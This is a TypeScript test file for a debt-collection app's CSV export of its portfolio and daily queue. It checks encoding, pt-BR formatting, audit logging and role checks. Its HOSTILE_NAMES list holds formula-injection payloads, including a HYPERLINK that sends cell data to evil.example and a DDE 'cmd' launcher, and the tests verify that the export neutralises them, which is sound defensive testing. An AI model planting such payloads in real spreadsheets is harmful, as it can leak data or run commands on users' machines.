/**
 * Spreadsheets out, through the real API on both databases: the portfolio and the day's queue
 * as CSV (UTF-8 with BOM, `;`, pt-BR decimals and dates), opened and parsed back the way a
 * spreadsheet reads them; hostile names from an import (=, +, -, @, tab, CR) come out as text;
 * the portfolio round-trips through the import unchanged; the read audit writes one row per chunk
 * naming its debtors; merged and anonymised debtors stay out; collectors get 403.
 */
import Papa from 'papaparse';
import { afterAll, beforeAll, describe, expect, test } from 'vitest';
import { createApp } from '../server/app';
import type { Db } from '../server/db/db';
import { PORTFOLIO_HEADERS, portfolioCsv } from '../server/export/portfolio-export';
import { QUEUE_HEADERS } from '../server/export/queue-export';
import type { ImportReport } from '../server/import/import-debtors';
import { forEachDb, openTestDb } from './helpers/test-db';
import { seedUser, testClock, type SeededUser } from './helpers/auth';
import { call } from './helpers/http';
import { cpf } from './helpers/ledger';

const HOSTILE_NAMES = [
  '=HYPERLINK("http://evil.example/?"&A1;"Clique aqui")',
  '+55 11 9999-9999 ligar',
  "-2+3+cmd|' /C calc'!A0",
  '@SUM(A1:A10)',
];

function parse(text: string): string[][] {
  const result = Papa.parse<string[]>(text.replace(/\r\n$/, ''), {
    delimiter: ';',
    newline: '\r\n',
  });
  expect(result.errors).toEqual([]);
  return result.data;
}

forEachDb((kind) => {
  let db: Db;
  let app: ReturnType<typeof createApp>;
  let owner: SeededUser;
  let staff: SeededUser;
  let collector: SeededUser;
  const clock = testClock('2026-03-16T13:00:00Z');

  async function download(path: string, who: SeededUser) {
    const res = await app.request(path, { headers: who.headers });
    return { res, bytes: new Uint8Array(await res.arrayBuffer()) };
  }

  async function importText(text: string): Promise<ImportReport> {
    const res = await app.request('/api/import/debtors', {
      method: 'POST',
      body: text,
      headers: { 'content-type': 'text/csv', ...owner.headers },
    });
    const report = (await res.json()) as ImportReport;
    expect(res.status, JSON.stringify(report)).toBe(200);
    return report;
  }

  beforeAll(async () => {
    db = await openTestDb(kind);
    app = createApp({ db, version: 'test', now: clock.now });
    owner = await seedUser(db, 'owner', { now: clock.now() });
    staff = await seedUser(db, 'staff', { now: clock.now() });
    collector = await seedUser(db, 'collector', { now: clock.now() });
    const rows = [
      `EX-1;Conceição Araújo;${cpf(8001)};ana@exemplo.com.br;(11) 98765-4321;sim;"Rua A, 1";São Paulo;SP;EX-T1;"Plano ""ouro""; mensal";1.234,56;10/01/2026`,
      `EX-1;Conceição Araújo;${cpf(8001)};ana@exemplo.com.br;(11) 98765-4321;sim;"Rua A, 1";São Paulo;SP;EX-T2;Plano ouro;99,90;10/02/2026`,
      `EX-2;Padaria Nova Ltda;12.ABC.345/01DE-35;;(21) 3333-4444;não;;Rio de Janeiro;RJ;EX-T3;Pães;500,00;01/03/2026`,
      ...HOSTILE_NAMES.map(
        (name, i) =>
          `HX-${i};${name.includes(';') || name.includes('"') ? `"${name.replaceAll('"', '""')}"` : name};${cpf(8100 + i)};;;;;;;HX-T${i};=1+1;10,00;01/03/2026`,
      ),
      `ANON-1;Apagado;${cpf(8201)};;;;;;;ANON-T1;x;10,00;01/01/2020`,
    ];
    const report = await importText(
      `codigo_cliente;nome;cpf_cnpj;email;telefone;whatsapp;endereco;cidade;uf;codigo_divida;descricao;valor;vencimento\r\n${rows.join('\r\n')}\r\n`,
    );
    expect(report.errors).toEqual([]);
    await db.query(`UPDATE debtors SET anonymised_at = now() WHERE external_id = 'ANON-1'`);
    const [ex1] = await db.query<{ id: string }>(
      `SELECT id FROM debtors WHERE external_id = 'EX-1'`,
    );
    const [t1] = await db.query<{ id: string }>(`SELECT id FROM debts WHERE external_id = 'EX-T1'`);
    const paid = await call(app, 'POST', '/api/payments', {
      headers: owner.headers,
      json: { debtId: t1?.id, date: '2026-03-01', amount: 20_000, method: 'pix' },
    });
    expect(paid.status, JSON.stringify(paid.body)).toBe(201);
    expect(ex1).toBeDefined();
  });
  afterAll(async () => {
    await db.close();
  });

  describe('the portfolio', () => {
    let rows: string[][];

    test('downloads as UTF-8 with BOM, `;`, an attachment named for today', async () => {
      const { res, bytes } = await download('/api/export/portfolio.csv', staff);
      expect(res.status).toBe(200);
      expect(res.headers.get('content-type')).toBe('text/csv; charset=utf-8');
      expect(res.headers.get('content-disposition')).toBe(
        'attachment; filename="carteira-2026-03-16.csv"',
      );
      expect(Array.from(bytes.subarray(0, 3))).toEqual([0xef, 0xbb, 0xbf]);
      rows = parse(new TextDecoder().decode(bytes));
      expect(rows[0]).toEqual([...PORTFOLIO_HEADERS]);
    });

    test('one line per debt, itemised balance as of today in pt-BR decimals', () => {
      const byDebt = new Map(rows.slice(1).map((r) => [r[9], r]));
      expect(rows).toHaveLength(1 + 3 + HOSTILE_NAMES.length);
      const t1 = byDebt.get('EX-T1');
      expect(t1?.slice(0, 13)).toEqual([
        'EX-1',
        'Conceição Araújo',
        expect.stringMatching(/^\d{3}\.\d{3}\.\d{3}-\d{2}$/),
        'ana@exemplo.com.br',
        '(11) 98765-4321',
        'sim',
        'Rua A, 1',
        'São Paulo',
        'SP',
        'EX-T1',
        'Plano "ouro"; mensal',
        '1234,56',
        '10/01/2026',
      ]);
      // 65 days late: 2% multa + 1% a.m. pro rata; R$ 200,00 paid.
      const [multa, juros, , pago, , saldo] = (t1 ?? []).slice(14, 20);
      expect(multa).toBe('24,69');
      expect(pago).toBe('200,00');
      expect(Number(juros?.replace(',', '.'))).toBeGreaterThan(0);
      expect(saldo).toMatch(/^\d+,\d{2}$/);
      expect(t1?.[13]).toBe('em aberto');
      expect(t1?.[21]).toBe('vencido');
      const company = byDebt.get('EX-T3');
      expect(company?.slice(2, 6)).toEqual(['12.ABC.345/01DE-35', '', '(21) 3333-4444', 'não']);
    });

    test('formula cells come out as text', () => {
      const hostile = rows.slice(1).filter((r) => r[0]?.startsWith('HX-'));
      expect(hostile.map((r) => r[1])).toEqual(HOSTILE_NAMES.map((n) => `'${n}`));
      for (const row of rows) for (const cell of row) expect(cell).not.toMatch(/^[=+\-@\t\r]/);
      expect(hostile[0]?.[10]).toBe("'=1+1");
    });

    test('anonymised debtors are left out', () => {
      expect(rows.some((r) => r[0] === 'ANON-1')).toBe(false);
    });

    test('each chunk is audited with one row naming its debtors', async () => {
      const before = await db.query<{ n: number }>(
        `SELECT count(*)::int AS n FROM audit_log WHERE action = 'debtor.export'`,
      );
      let text = '';
      for await (const chunk of portfolioCsv(db, {
        now: clock.now(),
        actor: owner.user.id,
        chunkSize: 2,
      }))
        text += chunk;
      expect(parse(text).length).toBe(rows.length);
      const entries = await db.query<{ detail: { debtorIds: string[]; export: string } }>(
        `SELECT detail FROM audit_log WHERE action = 'debtor.export' ORDER BY id OFFSET $1`,
        [before[0]?.n ?? 0],
      );
      // 6 exportable debtors in chunks of 2.
      expect(entries.map((e) => e.detail.debtorIds.length)).toEqual([2, 2, 2]);
      expect(new Set(entries.flatMap((e) => e.detail.debtorIds)).size).toBe(6);
      expect(entries.every((e) => e.detail.export === 'portfolio')).toBe(true);
    });

    test('edited in a spreadsheet and imported back, it changes only what was edited', async () => {
      const { bytes } = await download('/api/export/portfolio.csv', owner);
      const text = new TextDecoder().decode(bytes);
      const benign = text
        .split('\r\n')
        .filter((line) => !line.startsWith('HX-'))
        .map((line) => line.replace(';Padaria Nova Ltda;', ';Padaria Nova Ltda ME;'))
        .join('\r\n');
      const report = await importText(benign);
      expect(report.errors).toEqual([]);
      expect(report.warnings).toEqual([]);
      expect(report.debtors).toEqual({ created: 0, updated: 1, unchanged: 1 });
      expect(report.debts).toEqual({ created: 0, updated: 0, unchanged: 3 });
    });
  });

  describe("the day's queue", () => {
    test('has the same items as the API for the role, as text', async () => {
      const api = await call<{ items: { debtor: { name: string } }[] }>(
        app,
        'GET',
        '/api/cadence/today?limit=5000',
        { headers: owner.headers },
      );
      const { res, bytes } = await download('/api/export/queue.csv', owner);
      expect(res.status).toBe(200);
      expect(res.headers.get('content-disposition')).toBe(
        'attachment; filename="fila-do-dia-2026-03-16.csv"',
      );
      const rows = parse(new TextDecoder().decode(bytes));
      expect(rows[0]).toEqual([...QUEUE_HEADERS]);
      expect(api.body.items.length).toBeGreaterThan(0);
      expect(
        rows
          .slice(1)
          .map((r) => r[0])
          .sort(),
      ).toEqual(
        api.body.items
          .map((i) => (/^[=+\-@]/.test(i.debtor.name) ? `'${i.debtor.name}` : i.debtor.name))
          .sort(),
      );
      for (const row of rows) for (const cell of row) expect(cell).not.toMatch(/^[=+\-@\t\r]/);
      const [entry] = await db.query<{ detail: { export: string; debtorIds: string[] } }>(
        `SELECT detail FROM audit_log WHERE action = 'debtor.export' ORDER BY id DESC LIMIT 1`,
      );
      expect(entry?.detail.export).toBe('queue');
      expect(entry?.detail.debtorIds.length).toBe(api.body.items.length);
    });
  });

  test('collectors may not export', async () => {
    for (const path of ['/api/export/portfolio.csv', '/api/export/queue.csv'])
      expect((await app.request(path, { headers: collector.headers })).status).toBe(403);
  });
});
